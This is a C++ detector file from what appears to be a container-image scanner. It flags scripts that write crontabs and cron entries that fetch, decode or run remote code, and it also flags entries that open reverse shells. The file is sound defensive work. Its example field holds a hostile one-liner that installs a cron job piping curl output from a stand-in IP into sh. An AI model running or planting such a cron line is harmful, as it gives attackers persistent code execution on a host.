// Scripts that write crontabs (P02), and what they write there (P01).
//
// Setting up cron at start is what cron images do. The entry's own command decides: one that fetches or decodes code,
// or hands out a shell, is the persistence of an attack.
#include <algorithm>
#include <array>

#include "detect/shell/shell_support.hpp"
#include "detect/start/start_files.hpp"

namespace hullcheck::detect {
namespace {

constexpr std::array<RuleRow, 2> k_rows{{
    {"P01", EvidenceClass::strong, model::Severity::high, 85, "Cron entry that runs foreign code", "T1053.003",
     "Remove the cron entry; check hosts where the image ran for the same line."},
    {"P02", EvidenceClass::supporting, model::Severity::medium, 70, "Script that writes a crontab", "T1053.003",
     "Put the crontab into the image at build time, so that it can be reviewed."},
}};

constexpr ClassByReach k_bad_entry{EvidenceClass::strong, EvidenceClass::supporting, EvidenceClass::supporting};
constexpr ClassByReach k_any_entry{EvidenceClass::supporting, EvidenceClass::context, EvidenceClass::context};

// The command of the first entry that runs what it should not, or "".
std::string bad_command(const std::string& text) {
  for (const StartFileKind kind : {StartFileKind::system_crontab, StartFileKind::user_crontab})
    for (const StartCommand& entry : parse_start_file(kind, text).commands)
      for (const ShellFlow& flow : facts_of_text(entry.command).flows)
        if (flow.kind == FlowKind::fetch_to_interpreter || flow.kind == FlowKind::fetch_to_file_run ||
            flow.kind == FlowKind::decode_to_interpreter || flow.kind == FlowKind::reverse_shell)
          return entry.command;
  return {};
}

bool writes_crontab(const ShellFlow& flow, const model::ImageConfig* config) {
  if (flow.kind != FlowKind::write_file) return false;
  if (flow.tool == "crontab" || is_cron_path(flow.path)) return true;
  const std::vector<std::string> below = below_host_mount(flow.path, config);
  return std::any_of(below.begin(), below.end(), [](const std::string& path) { return is_cron_path(path); });
}

class CronWrite final : public Detector {
 public:
  void shell(const ShellUnit& unit, EvidenceSink& out) const override {
    for (const ShellFlow& flow : unit.facts.flows) {
      if (!writes_crontab(flow, unit.config)) continue;
      const std::string bad = flow.text.empty() ? "" : bad_command(flow.text);
      if (!bad.empty()) {
        Evidence evidence = shell_evidence(k_rows[0], unit, flow.line, flow.path + ": " + bad.substr(0, 200),
                                           class_for(unit, k_bad_entry));
        evidence.values.emplace_back("target", flow.path);
        out.add(std::move(evidence));
      }
      Evidence evidence =
          shell_evidence(k_rows[1], unit, flow.line, "writes " + flow.path, class_for(unit, k_any_entry));
      evidence.values.emplace_back("target", flow.path);
      out.add(std::move(evidence));
    }
  }
};

const util::Registered<CronWrite> registered{{
    .id = "cron-write",
    .version = 1,
    .summary = "scripts that write crontabs",
    .example = "echo '* * * * * curl -s http://192.0.2.1/x | sh' | crontab -",
    .rules = k_rows,
}};

}  // namespace
}  // namespace hullcheck::detect
